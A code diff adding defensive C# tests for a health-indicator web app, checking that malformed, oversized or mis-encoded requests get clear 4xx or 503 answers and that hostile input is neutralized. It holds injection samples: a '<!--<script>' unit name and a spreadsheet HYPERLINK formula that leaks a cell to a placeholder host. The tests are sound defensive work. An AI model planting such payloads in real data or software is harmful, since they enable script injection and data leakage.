@@ -220,6 +220,103 @@ public abstract class HostileInputTests(WebApp app)
     }
 
     [Fact]
+    public async Task Malformed_requests_get_a_chinese_4xx_never_a_500()
+    {
+        using var planner = await app.SignInAsync("planner");
+        foreach (var page in new[] { "/?year=99999", "/Indicators/Detail?code=infant_mortality_rate&year=1", "/Reports?year=5000" })
+        {
+            var answer = await planner.GetAsync(page);
+            answer.StatusCode.ShouldBe(HttpStatusCode.BadRequest, page);
+            (await answer.Content.ReadAsStringAsync()).ShouldContain("超出范围", customMessage: page);
+        }
+        var api = await planner.GetAsync("/api/plans/TL14/evaluation?year=1");
+        api.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
+        api.Content.Headers.ContentType!.MediaType.ShouldBe("application/problem+json");
+        (await api.Content.ReadAsStringAsync()).ShouldContain("超出范围");
+
+        using var kerqin = app.TokenClient(await app.TokenAsync("kerqin"));
+        async Task<HttpResponseMessage> Post(byte[] body) =>
+            await kerqin.PostAsync("/api/dataValueSets", new ByteArrayContent(body) { Headers = { ContentType = new("application/json") } });
+        (await Post("""[{"dataElement":"beds_total"}]"""u8.ToArray())).StatusCode.ShouldBe(HttpStatusCode.BadRequest);
+        (await Post([0x7B, 0x22, 0xFF, 0xFE, 0x22, 0x7D])).StatusCode.ShouldBe(HttpStatusCode.BadRequest);
+        var gb = System.Text.Encoding.GetEncoding("GB18030").GetBytes(
+            $$"""{"dataValues":[{"dataElement":"beds_total","period":"2023","orgUnit":"{{WebApp.Dalin}}","value":"１２０","comment":"大林镇"}]}""");
+        var decoded = await Post(gb);
+        decoded.StatusCode.ShouldBe(HttpStatusCode.OK, await decoded.Content.ReadAsStringAsync());
+
+        // The third value is the bad one, and the answer says so (not "line 1"); a 1 MB field is not echoed back whole.
+        var third = await kerqin.PostAsync("/api/dataValueSets", new StringContent($$"""
+            {"dataValues":[{"dataElement":"beds_total","period":"2023","orgUnit":"{{WebApp.Dalin}}","value":"1"},{"dataElement":"beds_total","period":"2022","orgUnit":"{{WebApp.Dalin}}","value":"2"},{"dataElement":"{{new string('x', 1_000_000)}}","period":"2023","orgUnit":"{{WebApp.Dalin}}","value":"3"}]}
+            """, System.Text.Encoding.UTF8, "application/json"));
+        var conflicts = await third.Content.ReadAsStringAsync();
+        conflicts.ShouldContain("\"line\":3");
+        conflicts.Length.ShouldBeLessThan(5_000);
+
+        // Over the 30 MB limit: 413 before the body is sent (Expect: 100-continue, as browsers and curl ask for big bodies).
+        using var request = new HttpRequestMessage(HttpMethod.Post, "/api/dataValueSets")
+        {
+            Content = new ByteArrayContent(new byte[31 * 1024 * 1024]) { Headers = { ContentType = new("application/json") } },
+        };
+        request.Headers.ExpectContinue = true;
+        var huge = await kerqin.SendAsync(request);
+        huge.StatusCode.ShouldBe(HttpStatusCode.RequestEntityTooLarge);
+        (await huge.Content.ReadAsStringAsync()).ShouldContain("过大");
+    }
+
+    [Fact]
+    public async Task A_unit_name_cannot_end_the_script_block_its_chart_data_sits_in()
+    {
+        var added = await app.WithDbAsync(db => new Yardstick.Data.Interchange.Importer(db, TimeProvider.System).ImportAsync(
+            [new Yardstick.Data.Interchange.SourceTable("units.csv", Yardstick.Data.Interchange.InterchangeKind.OrgUnits,
+                [new Yardstick.Data.Interchange.SourceRow(2, new Dictionary<string, string> { ["code"] = "150502199", ["name"] = "<!--<script>\u0001村", ["parent"] = WebApp.Kerqin, ["level"] = "村" })])],
+            "test", "units"));
+        added.Succeeded.ShouldBeTrue(string.Join("; ", added.Issues));
+        using var planner = await app.SignInAsync("planner");
+        var page = await planner.GetStringAsync($"/Indicators/Detail?code=infant_mortality_rate&orgunit={WebApp.Kerqin}&year=2023");
+        page.ShouldNotContain("<!--<script>");
+        (await planner.GetAsync($"/Reports?handler=Scorecard&orgunit={WebApp.Kerqin}&year=2023")).StatusCode.ShouldBe(HttpStatusCode.OK);
+    }
+
+    [Fact]
+    public async Task A_writer_that_waits_too_long_gets_503_with_retry_after_not_500()
+    {
+        using var kerqin = app.TokenClient(await app.TokenAsync("kerqin"));
+        await using var holder = await HoldWriterLockAsync();
+        var clock = System.Diagnostics.Stopwatch.StartNew();
+        var answer = await kerqin.PostAsync("/api/dataValueSets", Value(WebApp.Dalin, "beds_total", "77"));
+        answer.StatusCode.ShouldBe(HttpStatusCode.ServiceUnavailable, await answer.Content.ReadAsStringAsync());
+        answer.Headers.RetryAfter.ShouldNotBeNull();
+        (await answer.Content.ReadAsStringAsync()).ShouldContain("系统繁忙");
+        clock.Elapsed.ShouldBeLessThan(TimeSpan.FromSeconds(30));
+    }
+
+    /// <summary>Another writer holding the store's write lock: a write transaction on SQLite, the writers' advisory lock on PostgreSQL.</summary>
+    private async Task<IAsyncDisposable> HoldWriterLockAsync()
+    {
+        System.Data.Common.DbConnection connection = app.Provider == "Sqlite"
+            ? new Microsoft.Data.Sqlite.SqliteConnection($"Data Source={app.Connection};Pooling=False")
+            : new Npgsql.NpgsqlConnection(app.Connection + ";Pooling=false");
+        await connection.OpenAsync();
+        await using var command = connection.CreateCommand();
+        command.CommandText = app.Provider == "Sqlite" ? "BEGIN IMMEDIATE" : "SELECT pg_advisory_lock(7310001)";
+        await command.ExecuteNonQueryAsync();
+        return new LockHolder(connection, app.Provider == "Sqlite" ? "ROLLBACK" : "SELECT pg_advisory_unlock(7310001)");
+    }
+
+    private sealed class LockHolder(System.Data.Common.DbConnection connection, string release) : IAsyncDisposable
+    {
+        public async ValueTask DisposeAsync()
+        {
+            await using (var command = connection.CreateCommand())
+            {
+                command.CommandText = release;
+                await command.ExecuteNonQueryAsync();
+            }
+            await connection.DisposeAsync();
+        }
+    }
+
+    [Fact]
     public async Task A_sign_in_name_written_as_a_formula_is_text_in_the_auditors_csv()
     {
         const string formula = "=HYPERLINK(\"http://x/?leak=\"&B2,\"点我\")";
@@ -233,3 +330,5 @@ public abstract class HostileInputTests(WebApp app)
 }
 
 public sealed class SqliteHostileInputTests(SqliteWebApp app) : HostileInputTests(app), IClassFixture<SqliteWebApp>;
+
+public sealed class PostgresHostileInputTests(PostgresWebApp app) : HostileInputTests(app), IClassFixture<PostgresWebApp>;
